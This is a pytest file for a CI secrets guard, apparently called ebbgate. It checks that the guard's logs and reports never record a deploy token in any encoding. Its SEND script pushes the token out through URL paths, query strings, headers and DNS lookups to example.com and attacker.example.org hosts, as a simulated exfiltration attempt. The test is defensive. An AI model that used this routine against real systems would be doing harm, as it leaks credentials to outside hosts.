"""What a guard of a job writes down of requests with a secret in them: never the secret, however it was written in them."""

from __future__ import annotations

import json
import string
from pathlib import Path
from urllib.parse import quote

import pytest

from ebbgate.secrets.finding import Carrier, Place
from ebbgate.secrets.scanner import Scanner
from ebbgate.secrets.secret import Secret
from tests.attacks.programs import python
from tests.job.guarded import STATE, Job
from tests.machine import Machine
from tests.secrets.encodings import DISGUISED, TEXTUAL

pytestmark = pytest.mark.root
VERDICT = "/tmp/verdict"
_AS_THEY_ARE = "".join(sorted(set(string.punctuation) - {"#", "?"}))  # of a path; clients send the others in percent signs
SEND = """
import http.client, json, socket, sys
for number, form in enumerate(json.load(sys.stdin)):
    for path, headers in ((f"/{form}", {}), (f"/?a={form}", {"Referer": f"https://api.example.com/{form}"}), ("/", {f"X-Data": form})):
        try:
            connection = http.client.HTTPSConnection("api.example.com", timeout=20)
            connection.request("GET", path, headers=headers)
            print(number, connection.getresponse().status, flush=True)
        except (OSError, http.client.HTTPException) as problem:
            print(number, type(problem).__name__, flush=True)
    label = "".join(one for one in form if one.isalnum())[:60]
    for host in (f"{label}.example.com", f"{label}.attacker.example.org"):
        try:
            socket.getaddrinfo(host, 443)
        except OSError:
            pass
"""


def forms_of(value: str) -> dict[str, str]:
    """As a client puts them into a URL."""
    ways = {"raw": bytes, **TEXTUAL, **DISGUISED}
    return {name: quote(write(value.encode()), safe=_AS_THEY_ARE) for name, write in ways.items()}


def all_files(*directories: str) -> dict[str, bytes]:
    found = (one for directory in directories for one in Path(directory).rglob("*") if one.is_file())
    return {str(one): one.read_bytes() for one in found}


@pytest.mark.parametrize("mode", ["enforce", "audit"])
def test_no_file_of_a_run_holds_a_secret_in_any_encoding(machine: Machine, secret: str, mode: str) -> None:
    forms = forms_of(secret)
    options = {"mode": mode, "allow": "api.example.com *.example.com", "on-exfiltration": "fail"}
    with Job(machine, secrets={"DEPLOY_TOKEN": secret}, **options) as job:
        done = job.step(python(SEND), input=json.dumps(list(forms.values())).encode(), timeout=200)
        assert len(done.stdout.splitlines()) == 3 * len(forms), done.stderr
        verdict = job.verdict()
        assert verdict.code in (0, 91), verdict.stderr
        files = machine.inside(lambda: all_files(STATE, VERDICT))
    files["annotations"] = (verdict.stdout + verdict.stderr + done.stdout).encode()
    assert {"events.jsonl", "report.json"} <= {Path(name).name for name in files}
    assert files[f"{STATE}/events.jsonl"].count(b"DEPLOY_TOKEN") > len(forms)  # they were seen, and are told by their name
    written = [(name, form, file) for name, form in forms.items() for file, data in files.items() if form.encode() in data]
    assert written == []
    scanner = Scanner([Secret("DEPLOY_TOKEN", secret.encode(), "--secret")], salt=b"salt")
    lines = [(file, line) for file, data in files.items() for line in data.splitlines()]
    assert [(file, line) for file, line in lines if scanner.scan(line, Place(Carrier.BODY)).findings] == []
